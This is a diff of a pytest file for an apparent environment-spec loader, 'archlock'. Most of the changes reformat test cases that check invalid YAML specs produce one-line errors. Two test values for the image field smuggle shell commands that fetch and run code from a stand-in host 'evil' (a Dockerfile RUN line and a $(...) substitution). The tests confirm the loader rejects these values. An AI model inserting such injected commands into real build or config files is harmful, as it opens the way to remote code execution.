@@ -8,9 +8,9 @@ from pathlib import Path
 import pytest
 
 from archlock import cli
-from archlock.errors import ConfigError
 from archlock.core.project import default_envs_dir
 from archlock.core.spec import json_schema, load_spec
+from archlock.errors import ConfigError
 
 GOOD = """\
 platform: linux-arm64
@@ -45,11 +45,14 @@ BAD_SPECS: list[tuple[str, str]] = [
     (GOOD + "torch:\n  variants: cpu\n", "did you mean 'variant'"),
     (GOOD + "expect:\n  devcie: cpu\n", "did you mean 'device'"),
     (GOOD + "verify:\n  project_tests: true\n", "did you mean 'project-tests'"),
-    ("platform: linux-arm64\npython: \"3.11\"\naccelerator: cpu\nimage:\n  bsae: x\n", "did you mean 'base'"),
-    ("platform: linux-arm46\npython: \"3.11\"\naccelerator: cpu\n", "did you mean 'linux-arm64'"),
-    ("platform: macos-x86\npython: \"3.11\"\naccelerator: cpu\n", "is not one of"),
-    ("platform: windows\npython: \"3.11\"\naccelerator: cpu\n", "is not one of"),
-    ("platform: 64\npython: \"3.11\"\naccelerator: cpu\n", "must be a str"),
+    (
+        'platform: linux-arm64\npython: "3.11"\naccelerator: cpu\nimage:\n  bsae: x\n',
+        "did you mean 'base'",
+    ),
+    ('platform: linux-arm46\npython: "3.11"\naccelerator: cpu\n', "did you mean 'linux-arm64'"),
+    ('platform: macos-x86\npython: "3.11"\naccelerator: cpu\n', "is not one of"),
+    ('platform: windows\npython: "3.11"\naccelerator: cpu\n', "is not one of"),
+    ('platform: 64\npython: "3.11"\naccelerator: cpu\n', "must be a str"),
     ("platform: linux-arm64\npython: 3.11\naccelerator: cpu\n", 'quote it: "3.11"'),
     ("platform: linux-arm64\npython: 3.10\naccelerator: cpu\n", "must be a str"),
     ("platform: linux-arm64\npython: 3\naccelerator: cpu\n", "must be a str"),
@@ -60,9 +63,18 @@ BAD_SPECS: list[tuple[str, str]] = [
     ('platform: linux-arm64\npython: "3.11"\naccelerator: gpu\n', "is not one of"),
     ('platform: linux-arm64\npython: "3.11"\naccelerator: cdua\n', "did you mean 'cuda'"),
     ('platform: linux-arm64\npython: "3.11"\naccelerator: true\n', "must be a str"),
-    ('platform: linux-arm64\npython: "3.11"\naccelerator: mps\n', "mps is impossible on linux-arm64"),
-    ('platform: linux-amd64\npython: "3.11"\naccelerator: mps\n', "mps is impossible on linux-amd64"),
-    ('platform: macos-arm64\npython: "3.11"\naccelerator: cuda\n', "cuda is impossible on macos-arm64"),
+    (
+        'platform: linux-arm64\npython: "3.11"\naccelerator: mps\n',
+        "mps is impossible on linux-arm64",
+    ),
+    (
+        'platform: linux-amd64\npython: "3.11"\naccelerator: mps\n',
+        "mps is impossible on linux-amd64",
+    ),
+    (
+        'platform: macos-arm64\npython: "3.11"\naccelerator: cuda\n',
+        "cuda is impossible on macos-arm64",
+    ),
     (MAC + "image:\n  base: debian\n", "cannot run in a container"),
     (GOOD + 'macos: "14.0"\n', "is not macOS"),
     (MAC + "macos: 14.0\n", 'quote it: "14.0"'),
@@ -86,24 +98,40 @@ BAD_SPECS: list[tuple[str, str]] = [
     (GOOD + "torch:\n  index: x\n  variant: cu 128\n", "is not valid"),
     (GOOD + "opt-in: maybe\n", "must be a bool"),
     (GOOD + "opt-in: 1\n", "must be a bool"),
-    (GOOD + "verify:\n  project-tests: \"yes\"\n", "must be a bool"),
+    (GOOD + 'verify:\n  project-tests: "yes"\n', "must be a bool"),
     (GOOD + "description: 42\n", "must be a str"),
-    (GOOD.replace("archlock/debian-bookworm:arm64", '"debian\\nRUN curl evil | sh"'), "is not valid"),
+    (
+        GOOD.replace("archlock/debian-bookworm:arm64", '"debian\\nRUN curl evil | sh"'),
+        "is not valid",
+    ),
     (GOOD.replace("archlock/debian-bookworm:arm64", '"$(curl evil)"'), "is not valid"),
     (GOOD.replace("archlock/debian-bookworm:arm64", '"debian:12 AS x"'), "is not valid"),
     (GOOD.replace("archlock/debian-bookworm:arm64", "'debian\"quote'"), "is not valid"),
     (GOOD.replace("archlock/debian-bookworm:arm64", "Debian:12"), "is not valid"),
     (GOOD + "  digest: sha256:abc\n", "is not valid"),
     (GOOD + "  digest: md5:" + "0" * 64 + "\n", "is not valid"),
-    ('platform: linux-arm64\npython: "3.11"\naccelerator: cpu\nimage:\n  digest: sha256:' + "a" * 64 + "\n", "a digest needs a base image"),
-    ('platform: linux-arm64\npython: "3.11"\naccelerator: cpu\nimage: debian\n', "must be a mapping"),
-    ("platform: linux-arm64\nplatform: linux-amd64\npython: \"3.11\"\naccelerator: cpu\n", "key appears twice"),
+    (
+        'platform: linux-arm64\npython: "3.11"\naccelerator: cpu\nimage:\n  digest: sha256:'
+        + "a" * 64
+        + "\n",
+        "a digest needs a base image",
+    ),
+    (
+        'platform: linux-arm64\npython: "3.11"\naccelerator: cpu\nimage: debian\n',
+        "must be a mapping",
+    ),
+    (
+        'platform: linux-arm64\nplatform: linux-amd64\npython: "3.11"\naccelerator: cpu\n',
+        "key appears twice",
+    ),
     (GOOD + "1: x\n", "is not a string"),
-    (GOOD + "python: \"3.12\"\n", "key appears twice"),
+    (GOOD + 'python: "3.12"\n', "key appears twice"),
 ]
 
 
-@pytest.mark.parametrize(("text", "expected"), BAD_SPECS, ids=[f"bad{i:02d}" for i in range(len(BAD_SPECS))])
+@pytest.mark.parametrize(
+    ("text", "expected"), BAD_SPECS, ids=[f"bad{i:02d}" for i in range(len(BAD_SPECS))]
+)
 def test_bad_spec_is_one_clean_line(tmp_path: Path, text: str, expected: str) -> None:
     path = tmp_path / "target.yaml"
     path.write_text(text, encoding="utf-8")
@@ -134,7 +162,9 @@ def test_bad_file_name_is_refused(tmp_path: Path) -> None:
         load_spec(path)
 
 
-def test_cli_reports_a_bad_spec_without_traceback(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_cli_reports_a_bad_spec_without_traceback(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     (tmp_path / "requirements.txt").write_text("six\n", encoding="utf-8")
     (tmp_path / "envs").mkdir()
     (tmp_path / "envs" / "bad.yaml").write_text(GOOD + "acelerator: cpu\n", encoding="utf-8")
@@ -172,7 +202,9 @@ def test_shipped_default_envs_are_valid_and_match_the_repo(repo: Path) -> None:
     shipped = sorted(default_envs_dir().glob("*.yaml"))
     assert [p.name for p in shipped] == sorted(p.name for p in (repo / "envs").glob("*.yaml"))
     for path in shipped:
-        assert path.read_text() == (repo / "envs" / path.name).read_text(), f"envs/{path.name} drifted from the default"
+        assert path.read_text() == (repo / "envs" / path.name).read_text(), (
+            f"envs/{path.name} drifted from the default"
+        )
         load_spec(path)
     names = {p.stem for p in shipped}
     assert {"macos-arm64", "linux-amd64-cuda", "linux-arm64-cpu", "linux-amd64-cpu"} <= names
@@ -198,7 +230,9 @@ def test_deprecated_expect_cuda_loads_with_a_note(tmp_path: Path) -> None:
 
 def test_machines_and_accept_cuda_stack_load(tmp_path: Path) -> None:
     path = tmp_path / "graviton.yaml"
-    path.write_text(GOOD + "accept-cuda-stack: true\nmachines: [graviton-al2, c7g]\n", encoding="utf-8")
+    path.write_text(
+        GOOD + "accept-cuda-stack: true\nmachines: [graviton-al2, c7g]\n", encoding="utf-8"
+    )
     spec = load_spec(path)
     assert spec.machines == ("graviton-al2", "c7g") and spec.accept_cuda_stack
     assert spec.notes == ()
